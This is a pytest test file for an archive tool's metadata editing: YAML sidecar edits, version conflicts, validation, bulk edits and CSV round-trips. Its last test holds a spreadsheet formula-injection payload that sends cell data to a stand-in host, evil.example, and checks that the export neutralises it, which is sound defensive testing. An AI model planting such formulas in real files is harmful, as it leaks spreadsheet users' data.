"""Editing a source's metadata in the collection folder (``operations.edit``): written to the
sidecar a person would write (a file's own, or ``lines:`` of a JSON-lines sidecar), comments
and untouched entries kept, conflicts refused with nothing written, values checked first, bulk
edits and CSV round-trips, and a build of the folder afterwards takes the new metadata."""

from __future__ import annotations

import csv
import io
import json
import shutil
import threading
from pathlib import Path

import pytest

from shiliao.archive import open_archive
from shiliao.collection import read_collection
from shiliao.collection.sidecar import load_sidecar
from shiliao.config import load_settings
from shiliao.errors import EditConflict, EditError, SidecarError
from shiliao.operations import edit
from shiliao.operations.edit import (
    EDITABLE_FIELDS,
    edit_source,
    edit_sources,
    export_metadata_csv,
    field_text,
    import_metadata_csv,
    parse_field,
    read_record,
)
from shiliao.operations.ingest import ingest

# The 2016 government work report, line 18 of the sample's government-work-reports.jsonl.
REPORT_2016 = "government-work-reports-8a1711081d"
GWR_SIDECAR = "sources/government-work-reports.jsonl.yaml"
CPC_SIDECAR = "sources/cpc-congress-reports.jsonl.yaml"

NOTICE_SIDECAR = """\
# Sidecar of notice.txt: checked against the printed copy.
title: 结亲周活动通知  # as printed
date: 2016
creators:
  - name: 新华社
    name_en: Xinhua News Agency
    role: author

# Subjects from the team's list.
subjects: [结亲, 民族团结]
"""

LINES = [
    {"title": "通知一", "url": "https://example.gov.cn/1", "content": "干部开展结亲活动。"},
    {"title": "通知二", "url": "https://example.gov.cn/2", "content": "民族团结一家亲。"},
    {"title": "通知三", "url": "https://example.gov.cn/3", "content": "各族群众同吃同住。"},
]

NOTICES_SIDECAR = """\
# Three notices, one a line.
each_line:
  title: "{title}"
  url: "{url}"
  text: content
defaults:
  type: document
  language: zh-Hans
  collection: [notices]
"""


@pytest.fixture
def sample(tmp_path: Path, sample_dir: Path) -> Path:
    """A writable copy of the sample collection."""
    root = tmp_path / "jieqin"
    shutil.copytree(sample_dir, root)
    for path in [root, *root.rglob("*")]:
        path.chmod(0o755 if path.is_dir() else 0o644)
    return root


@pytest.fixture
def small(tmp_path: Path) -> Path:
    """A collection of a text file with a commented sidecar, a text file without one, and a
    JSON-lines file of three notices."""
    root = tmp_path / "small"
    sources = root / "sources"
    sources.mkdir(parents=True)
    (sources / "notice.txt").write_text("各族干部职工与结亲户同吃同住同劳动。\n", encoding="utf-8")
    (sources / "notice.txt.yaml").write_text(NOTICE_SIDECAR, encoding="utf-8")
    (sources / "plain.txt").write_text("民族团结一家亲活动总结。\n", encoding="utf-8")
    (sources / "notices.jsonl").write_text(
        "".join(json.dumps(line, ensure_ascii=False) + "\n" for line in LINES), encoding="utf-8"
    )
    (sources / "notices.jsonl.yaml").write_text(NOTICES_SIDECAR, encoding="utf-8")
    return root


def _sources(collection: Path) -> dict[str, dict]:
    return {s.id: s.metadata for s in read_collection(collection).sources}


def _line_ids(collection: Path, path: str) -> list[str]:
    return [s.id for s in read_collection(collection).sources if s.path == path]


def test_a_line_of_the_sample_is_edited_under_lines(sample: Path) -> None:
    sidecar = sample / GWR_SIDECAR
    original = sidecar.read_text(encoding="utf-8")
    others = {k: v for k, v in _sources(sample).items() if k != REPORT_2016}
    record = read_record(sample, REPORT_2016)
    assert (record.kind, record.path, record.line, record.written) == ("line", GWR_SIDECAR, 18, {})
    assert record.effective["date"] == "2016"

    result = edit_source(
        sample,
        REPORT_2016,
        {"date": "2016-03-05", "title_en": "Report on the Work of the Government, 2016"},
        base_version=record.version,
    )

    assert result.changed == ["date", "title_en"]
    assert result.after == {
        "date": "2016-03-05",
        "title_en": "Report on the Work of the Government, 2016",
    }
    metadata = _sources(sample)
    assert metadata[REPORT_2016]["date"] == "2016-03-05"
    assert metadata[REPORT_2016]["title_en"] == "Report on the Work of the Government, 2016"
    # The defaults still apply to the line; no other source changed.
    assert metadata[REPORT_2016]["publisher"] == "中华人民共和国国务院"
    assert {k: v for k, v in metadata.items() if k != REPORT_2016} == others
    # The hand-written sidecar is kept byte for byte; the edit is added after it.
    text = sidecar.read_text(encoding="utf-8")
    assert text.startswith(original)
    assert "中华人民共和国国务院" in text and "\\u" not in text
    assert load_sidecar(text, GWR_SIDECAR)["lines"][REPORT_2016]["date"] == "2016-03-05"
    assert read_record(sample, REPORT_2016).version == result.version


def test_a_file_sidecar_keeps_its_comments(small: Path) -> None:
    sidecar = small / "sources" / "notice.txt.yaml"
    record = read_record(small, "notice")
    assert record.kind == "file" and record.path == "sources/notice.txt.yaml"

    edit_source(
        small,
        "notice",
        {"title": "结亲周活动的通知", "date": "2016-03"},
        base_version=record.version,
    )

    text = sidecar.read_text(encoding="utf-8")
    assert text.startswith("# Sidecar of notice.txt: checked against the printed copy.\n")
    assert "# as printed" in text and "# Subjects from the team's list." in text
    assert "subjects: [结亲, 民族团结]\n" in text  # untouched, as written
    assert "结亲周活动的通知" in text
    keys = [line.split(":")[0] for line in text.splitlines() if line[:1] not in ("", "#", " ")]
    assert keys == ["title", "date", "creators", "subjects"]
    metadata = _sources(small)["notice"]
    assert (metadata["title"], metadata["date"]) == ("结亲周活动的通知", "2016-03")
    assert metadata["creators"][0]["name_en"] == "Xinhua News Agency"


def test_a_file_without_a_sidecar_gets_one(small: Path) -> None:
    record = read_record(small, "plain")
    assert record.path == "sources/plain.txt.yaml" and record.written == {}
    assert not (small / record.path).exists()

    edit_source(
        small,
        "plain",
        {"title": "民族团结一家亲", "subjects": ["yes", "2016"]},
        base_version=record.version,
    )

    assert (small / record.path).is_file()
    metadata = _sources(small)["plain"]
    # Text YAML would read as a boolean or a number is written quoted, and read back as text.
    assert metadata == {"title": "民族团结一家亲", "subjects": ["yes", "2016"]}


def test_a_jsonl_file_without_a_sidecar_gets_one_read_as_before(tmp_path: Path) -> None:
    sources = tmp_path / "c" / "sources"
    sources.mkdir(parents=True)
    (sources / "d.jsonl").write_text(
        '{"title": "甲", "text": "正文一", "date": "2019"}\n{"title": "乙", "text": "正文二"}\n',
        encoding="utf-8",
    )
    first, second = _line_ids(tmp_path / "c", "sources/d.jsonl")
    before = _sources(tmp_path / "c")

    edit_source(
        tmp_path / "c",
        first,
        {"place": "和田"},
        base_version=read_record(tmp_path / "c", first).version,
    )

    after = _sources(tmp_path / "c")
    assert after[first] == {**before[first], "place": "和田"}
    assert after[second] == before[second]


def test_a_save_against_an_old_version_is_refused(small: Path) -> None:
    old = read_record(small, "notice")
    saved = edit_source(small, "notice", {"title": "第一次保存"}, base_version=old.version)
    sidecar = small / "sources" / "notice.txt.yaml"
    bytes_now = sidecar.read_bytes()

    with pytest.raises(EditConflict) as raised:
        edit_source(small, "notice", {"title": "第二次保存"}, base_version=old.version)

    assert sidecar.read_bytes() == bytes_now
    assert raised.value.version == saved.version
    assert raised.value.current.written["title"] == "第一次保存"


def test_editors_of_two_lines_of_one_file_do_not_conflict(small: Path) -> None:
    first, second = _line_ids(small, "sources/notices.jsonl")[:2]
    one, two = read_record(small, first), read_record(small, second)

    edit_source(small, first, {"title_en": "Notice one"}, base_version=one.version)
    edit_source(small, second, {"title_en": "Notice two"}, base_version=two.version)

    metadata = _sources(small)
    assert (metadata[first]["title_en"], metadata[second]["title_en"]) == (
        "Notice one",
        "Notice two",
    )


def test_two_editors_saving_two_lines_at_once_both_keep_their_edit(small: Path) -> None:
    ids = _line_ids(small, "sources/notices.jsonl")
    records = [read_record(small, source_id) for source_id in ids]
    errors: list[BaseException] = []

    def save(record: edit.EditableRecord) -> None:
        try:
            edit_source(
                small, record.source_id, {"note": record.source_id}, base_version=record.version
            )
        except BaseException as exc:
            errors.append(exc)

    threads = [threading.Thread(target=save, args=(record,)) for record in records]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()

    assert errors == []
    metadata = _sources(small)
    assert [metadata[source_id]["note"] for source_id in ids] == ids


def test_a_windows_sidecar_keeps_its_byte_order_mark_and_line_ends(small: Path) -> None:
    sidecar = small / "sources" / "notice.txt.yaml"
    sidecar.write_bytes(b"\xef\xbb\xbf" + NOTICE_SIDECAR.replace("\n", "\r\n").encode("utf-8"))

    edit_source(
        small, "notice", {"place": "和田"}, base_version=read_record(small, "notice").version
    )

    data = sidecar.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf# Sidecar of notice.txt")
    assert data.count(b"\n") == data.count(b"\r\n")
    assert _sources(small)["notice"]["place"] == "和田"


@pytest.mark.parametrize(
    ("changes", "named"),
    [
        ({"date": "2016年3月"}, "2016-03"),
        ({"access": "secret"}, "secret"),
        ({"access": {"embargo": "soon", "then": "public"}}, "soon"),
        ({"reliability": "G9"}, "G9"),
        ({"creators": [{"name": "张三", "role": "photographer"}]}, "photographer"),
        ({"creators": [{"nom": "张三"}]}, "nom"),
        ({"type": "leaflet"}, "leaflet"),
        ({"language": "Chinese"}, "Chinese"),
        ({"title": "两行\n标题"}, "one line"),
        ({"subjects": ["a|b"]}, "a|b"),
        ({"private": True}, "private"),
    ],
)
def test_a_bad_value_is_refused_with_nothing_written(
    small: Path, changes: dict, named: str
) -> None:
    before = {p: p.read_bytes() for p in (small / "sources").iterdir()}
    record = read_record(small, "notice")

    with pytest.raises(EditError, match=named) as raised:
        edit_source(small, "notice", changes, base_version=record.version)

    assert next(iter(changes)) in str(raised.value)
    assert {p: p.read_bytes() for p in (small / "sources").iterdir()} == before


def test_an_unknown_id_is_refused(small: Path) -> None:
    with pytest.raises(EditError, match="no-such-source"):
        read_record(small, "no-such-source")


def test_none_removes_a_field_and_the_defaults_apply_again(small: Path) -> None:
    line = _line_ids(small, "sources/notices.jsonl")[0]
    sidecar = small / "sources" / "notices.jsonl.yaml"
    record = read_record(small, line)
    result = edit_source(small, line, {"language": "zh-Hant"}, base_version=record.version)
    assert _sources(small)[line]["language"] == "zh-Hant"

    edit_source(small, line, {"language": None}, base_version=result.version)

    assert _sources(small)[line]["language"] == "zh-Hans"
    # The line's empty entry and the emptied lines: are gone: the file is as it was.
    assert sidecar.read_text(encoding="utf-8") == NOTICES_SIDECAR


def test_a_bulk_edit_of_three_lines_rewrites_their_sidecar_once(
    small: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    ids = _line_ids(small, "sources/notices.jsonl")
    assert len(ids) == 3
    written: list[Path] = []
    replace = edit.replace_text

    def counting(path: Path, text: str) -> None:
        written.append(path)
        replace(path, text)

    monkeypatch.setattr(edit, "replace_text", counting)
    results = edit_sources(small, ids, {"tags": ["待核实"], "collection": {"add": ["campaign"]}})

    assert written == [small / "sources" / "notices.jsonl.yaml"]
    assert [r.changed for r in results] == [["collection", "tags"]] * 3
    metadata = _sources(small)
    for source_id in ids:
        assert metadata[source_id]["tags"] == ["待核实"]
        # Added to the collections the line had from the defaults, not in their place.
        assert metadata[source_id]["collection"] == ["notices", "campaign"]


def test_a_bulk_remove_and_a_no_op(small: Path) -> None:
    ids = _line_ids(small, "sources/notices.jsonl")
    edit_sources(small, ids, {"subjects": {"add": ["结亲", "干部"]}})

    results = edit_sources(small, [*ids, "notice"], {"subjects": {"remove": ["结亲"]}})

    metadata = _sources(small)
    assert all(metadata[i]["subjects"] == ["干部"] for i in ids)
    assert metadata["notice"]["subjects"] == ["民族团结"]
    again = edit_sources(small, ids, {"subjects": {"remove": ["结亲"]}})
    assert [r.changed for r in results] == [["subjects"]] * 4
    assert [r.changed for r in again] == [[], [], []]


def test_a_bulk_conflict_writes_nothing(small: Path) -> None:
    ids = _line_ids(small, "sources/notices.jsonl")
    versions = {i: read_record(small, i).version for i in ids}
    edit_source(small, ids[1], {"note": "核对过"}, base_version=versions[ids[1]])
    before = (small / "sources" / "notices.jsonl.yaml").read_bytes()

    with pytest.raises(EditConflict, match=ids[1]) as raised:
        edit_sources(small, ids, {"tags": ["x"]}, versions=versions)

    assert raised.value.current.source_id == ids[1]
    assert (small / "sources" / "notices.jsonl.yaml").read_bytes() == before


def test_a_sidecar_that_does_not_read_back_is_put_back(
    small: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    sidecar = small / "sources" / "notice.txt.yaml"
    record = read_record(small, "notice")
    checks = iter([True, False])
    # The text checked before writing passes; the file read back from the disk does not.
    monkeypatch.setattr(edit, "_valid", lambda *args: next(checks))

    with pytest.raises(EditError, match="put back"):
        edit_source(small, "notice", {"title": "新"}, base_version=record.version)

    assert sidecar.read_text(encoding="utf-8") == NOTICE_SIDECAR


@pytest.mark.parametrize(
    ("name", "text", "value"),
    [
        ("subjects", "结亲 | 民族团结", ["结亲", "民族团结"]),
        (
            "creators",
            "新华社 (author) | 张三 (editor)",
            [{"name": "新华社", "role": "author"}, {"name": "张三", "role": "editor"}],
        ),
        (
            "access",
            "embargo until 2030-01-01, then public",
            {"embargo": "2030-01-01", "then": "public"},
        ),
        ("access", "metadata", "metadata"),
        ("reliability", "B2", "B2"),
        (
            "reliability",
            "B2 (figures unverified)",
            {"source": "B", "information": 2, "note": "figures unverified"},
        ),
        ("date", "2016-03", "2016-03"),
        ("title", "  ", None),
    ],
)
def test_the_text_form_round_trips(name: str, text: str, value: object) -> None:
    assert parse_field(name, text) == value
    assert field_text(name, value) == text.strip()


def test_a_bad_text_form_is_refused() -> None:
    with pytest.raises(EditError, match="role must be"):
        parse_field("creators", "张三 (photographer)")
    with pytest.raises(EditError, match="'Z' is not A-F"):
        parse_field("reliability", "Z9 (no such code)")
    with pytest.raises(EditError, match="not a field"):
        parse_field("id", "x")


def test_csv_export_edit_import(small: Path) -> None:
    exported = export_metadata_csv(small)
    rows = list(csv.DictReader(io.StringIO(exported)))
    assert list(rows[0]) == ["id", "version", *EDITABLE_FIELDS]
    by_id = {row["id"]: row for row in rows}
    assert by_id["notice"]["creators"] == "新华社 (author)"
    assert by_id["notice"]["subjects"] == "结亲 | 民族团结"
    # Imported as it was exported, it writes nothing.
    unchanged = import_metadata_csv(small, exported)
    assert unchanged.written == [] and sorted(unchanged.unchanged) == sorted(by_id)

    line = _line_ids(small, "sources/notices.jsonl")[0]
    by_id["notice"]["date"] = "2016-03-05"
    by_id["notice"]["creators"] = "新华社 (author) | 张三 (editor)"
    by_id[line]["title_en"] = "Notice one"
    by_id["plain"]["date"] = "2016年"  # not EDTF: the row is refused
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]))
    writer.writeheader()
    writer.writerows(by_id.values())
    writer.writerow({"id": "no-such-source"})

    report = import_metadata_csv(small, "\ufeff" + out.getvalue())

    assert sorted(r.source_id for r in report.written) == sorted(["notice", line])
    assert report.unknown == [{"row": 7, "id": "no-such-source"}]
    assert [(e["id"], "date" in e["message"]) for e in report.errors] == [("plain", True)]
    metadata = _sources(small)
    assert metadata["notice"]["date"] == "2016-03-05"
    # The creator the source had keeps its English name.
    assert metadata["notice"]["creators"] == [
        {"name": "新华社", "name_en": "Xinhua News Agency", "role": "author"},
        {"name": "张三", "role": "editor"},
    ]
    assert metadata[line]["title_en"] == "Notice one"
    assert "date" not in metadata["plain"]

    # The same file again: its versions are old now, so the changed rows conflict.
    again = import_metadata_csv(small, out.getvalue())
    assert sorted(c["id"] for c in again.conflicts) == sorted(["notice", line])
    assert again.written == []


def test_a_csv_with_an_unknown_column_is_refused(small: Path) -> None:
    with pytest.raises(EditError, match="titel"):
        import_metadata_csv(small, "id,titel\nnotice,x\n")


def test_a_lines_entry_that_matches_no_line_is_a_warning(small: Path) -> None:
    sidecar = small / "sources" / "notices.jsonl.yaml"
    sidecar.write_text(
        NOTICES_SIDECAR + "lines:\n  notices-0000000000:\n    title_en: Gone\n", encoding="utf-8"
    )

    collection = read_collection(small)

    assert len(collection.sources) == 5
    assert [p for p in collection.problems if "notices-0000000000" in p] == [
        "sources/notices.jsonl: its sidecar's lines: 'notices-0000000000' is the id of no line; "
        "give the entry the line's new id or remove it"
    ]


@pytest.mark.parametrize(
    ("entry", "message"),
    [
        ("date: 2016年3月", "not EDTF"),
        ("id: other", "'id' cannot be set"),
        ("level: team", "access: LEVEL"),
    ],
)
def test_a_bad_lines_entry_is_an_error(small: Path, entry: str, message: str) -> None:
    line = _line_ids(small, "sources/notices.jsonl")[0]
    (small / "sources" / "notices.jsonl.yaml").write_text(
        NOTICES_SIDECAR + f"lines:\n  {line}:\n    {entry}\n", encoding="utf-8"
    )
    with pytest.raises(SidecarError, match=message):
        read_collection(small)


def test_a_lines_access_cannot_loosen_the_defaults(small: Path) -> None:
    sidecar = small / "sources" / "notices.jsonl.yaml"
    sidecar.write_text(
        NOTICES_SIDECAR.replace("defaults:\n", "defaults:\n  access: team\n"), encoding="utf-8"
    )
    line = _line_ids(small, "sources/notices.jsonl")[0]

    edit_source(small, line, {"access": "public"}, base_version=read_record(small, line).version)

    metadata = _sources(small)[line]
    assert (metadata["access"], metadata["file_access"]) == ("public", "team")


def test_an_edit_reaches_the_archive(small: Path, tmp_path: Path) -> None:
    line = _line_ids(small, "sources/notices.jsonl")[2]
    edit_source(
        small,
        line,
        {"date": "2017-05-01", "title": "通知三（修订）"},
        base_version=read_record(small, line).version,
    )
    edit_source(
        small, "notice", {"date": "2016-03-05"}, base_version=read_record(small, "notice").version
    )

    with open_archive(tmp_path / "archive", create=True) as archive:
        ingest(archive, read_collection(small), load_settings(small))
        stored = archive.catalog.source(line)
        notice = archive.catalog.source("notice")

    assert (stored.title, stored.date) == ("通知三（修订）", "2017-05-01")
    assert notice.date == "2016-03-05"


def test_a_formula_in_a_cell_is_exported_inert_and_imported_as_typed(tmp_path: Path) -> None:
    """A title a spreadsheet would run (=HYPERLINK...) is exported behind an apostrophe, and
    the apostrophe is taken off on import: a round trip changes nothing."""
    from shiliao.operations.edit import (
        edit_source,
        export_metadata_csv,
        import_metadata_csv,
        read_record,
    )

    (tmp_path / "sources").mkdir()
    (tmp_path / "sources" / "a.txt").write_text("正文\n", encoding="utf-8")
    formula = '=HYPERLINK("http://evil.example/?x="&B3,"open")'
    record = read_record(tmp_path, "a")
    edit_source(tmp_path, "a", {"title": formula, "date": "-0100"}, base_version=record.version)
    exported = export_metadata_csv(tmp_path)
    assert "'=HYPERLINK" in exported and "'-0100" in exported
    assert ',"=HYPERLINK' not in exported and ",=HYPERLINK" not in exported
    report = import_metadata_csv(tmp_path, exported)
    assert not report.errors and all(not r.changed for r in report.written)
    assert read_record(tmp_path, "a").value("title") == formula
